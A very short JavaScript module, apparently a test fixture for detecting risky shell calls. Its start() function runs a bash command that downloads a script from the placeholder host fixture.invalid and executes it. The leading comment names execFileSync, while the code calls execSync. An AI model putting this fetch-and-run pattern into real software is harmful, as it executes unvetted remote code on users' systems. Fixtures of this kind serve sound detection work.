// The command is in a variable, the shell is bash -c in execFileSync.
import * as cp from 'node:child_process';
const bootstrap = "bash -c \"$(curl -fsSL https://fixture.invalid/bootstrap)\"";
export function start() {
  cp.execSync(bootstrap, { stdio: 'inherit' });
}
